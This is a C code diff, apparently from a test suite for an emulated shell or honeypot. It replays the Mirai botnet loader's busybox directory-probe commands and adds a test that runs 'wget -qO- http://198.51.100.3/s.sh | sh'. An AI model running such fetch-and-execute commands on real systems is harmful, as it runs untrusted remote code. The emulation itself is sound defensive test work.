@@ -126,7 +126,7 @@ static void mirai_loader(struct th *t, const uint8_t *bin, size_t len, int force
 		o = run(t, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon",
 			dirs[i], dirs[i], dirs[i], dirs[i]);
 		char want[128];
-		snprintf(want, sizeof(want), "kami%s", dirs[i]);
+		snprintf(want, sizeof(want), "kami%.100s", dirs[i]);
 		if (contains(o, want) && strlen(dirs[i]) < 31)
 			snprintf(L->dir, sizeof(L->dir), "%s", dirs[i]);
 		free(o);
@@ -558,6 +558,12 @@ static void test_fetch_failures(void **state)
 	th_complete(&t, SHELL_FETCH_BAD_ADDRESS, 0, NULL, 0);
 	o = th_take(&t);
 	assert_string_equal(o, "curl: (6) Could not resolve host: nx.example\n# ");
+	free(o);
+	/* wget -O - into a pipe: the script runs */
+	free(run(&t, "wget -qO- http://198.51.100.3/s.sh | sh; echo st=$?"));
+	th_complete(&t, SHELL_FETCH_OK, 200, "echo piped-script\nexit 4\n", 25);
+	o = th_take(&t);
+	assert_string_equal(o, "piped-script\nst=4\n# ");
 	free(o);
 	/* newer BusyBox: saving/saved lines */
 	th_fini(&t);
